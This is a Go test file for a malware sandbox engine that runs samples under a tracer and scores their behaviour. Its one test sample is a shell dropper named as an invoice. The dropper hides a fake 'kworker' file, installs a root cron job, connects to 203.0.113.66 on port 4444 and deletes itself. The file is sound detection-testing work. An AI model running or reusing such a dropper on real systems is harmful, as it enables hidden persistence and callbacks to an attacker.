@@ -1,0 +1,128 @@
+package jail
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"tyto/finding"
+	"tyto/sandbox"
+)
+
+// tracerWord makes the test's own program the tracer.
+const tracerWord = "jail-tracer"
+
+func TestMain(m *testing.M) {
+	if slices.Contains(os.Args, tracerWord) {
+		if err := Serve(os.Stdin, os.Stdout); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+		os.Exit(0)
+	}
+	os.Exit(m.Run())
+}
+
+// newEngine returns an engine, or skips the test where this computer has no jail, which fails under CI.
+func newEngine(t *testing.T, o Options) *Engine {
+	t.Helper()
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	o.Tracer = []string{exe, tracerWord}
+	e, err := New(t.Context(), o)
+	if errors.Is(err, ErrNoBubblewrap) && os.Getenv("CI") == "" {
+		t.Skipf("no jail here: %v", err)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+// compile makes a program of C source.
+func compile(t *testing.T, source string, flags ...string) []byte {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "a.c"), []byte(source), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(dir, "a")
+	args := append([]string{"-O1", "-w", "-D_GNU_SOURCE", "-o", out, filepath.Join(dir, "a.c")}, flags...)
+	if said, err := exec.Command("cc", args...).CombinedOutput(); err != nil {
+		t.Fatalf("cc: %v\n%s", err, said)
+	}
+	b, err := os.ReadFile(out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// sample puts a content where a server keeps one.
+func sample(t *testing.T, name string, content []byte) sandbox.Sample {
+	t.Helper()
+	sum := sha256.Sum256(content)
+	s := sandbox.Sample{Name: name, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:])}
+	s.Path = filepath.Join(t.TempDir(), s.SHA256)
+	if err := os.WriteFile(s.Path, content, 0o400); err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func examine(t *testing.T, e *Engine, name string, content []byte) *sandbox.Seen {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
+	defer cancel()
+	seen, err := e.Examine(ctx, sample(t, name, content))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return seen
+}
+
+func score(seen *sandbox.Seen) float64 {
+	var subs []int
+	for _, b := range seen.Behaviours {
+		subs = append(subs, b.Score)
+	}
+	return finding.Score(subs)
+}
+
+func describe(seen *sandbox.Seen) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "%.1f  %s\n", score(seen), seen.Engine.Saw)
+	for _, x := range seen.Behaviours {
+		fmt.Fprintf(&b, "  %3d %-24s %s %q\n", x.Score, x.ID, x.Detail, x.Evidence)
+	}
+	return b.String()
+}
+
+const dropper = `#!/bin/sh
+mkdir -p /tmp/.cache-x
+printf '#!/bin/sh\nsleep 3600\ncat /etc/hostname\n' > /tmp/.cache-x/kworker
+chmod +x /tmp/.cache-x/kworker
+echo "* * * * * root /tmp/.cache-x/kworker" > /etc/cron.d/update
+/tmp/.cache-x/kworker &
+python3 -c 'import socket; s=socket.socket(); s.connect(("203.0.113.66",4444))' 2>/dev/null
+rm -f "$0"
+`
+
+func TestDropperIsMalicious(t *testing.T) {
+	seen := examine(t, newEngine(t, Options{}), "invoice.sh", []byte(dropper))
+	t.Log(describe(seen))
+	if got := score(seen); got < 80 {
+		t.Errorf("score %.1f, want at least 80", got)
+	}
+}
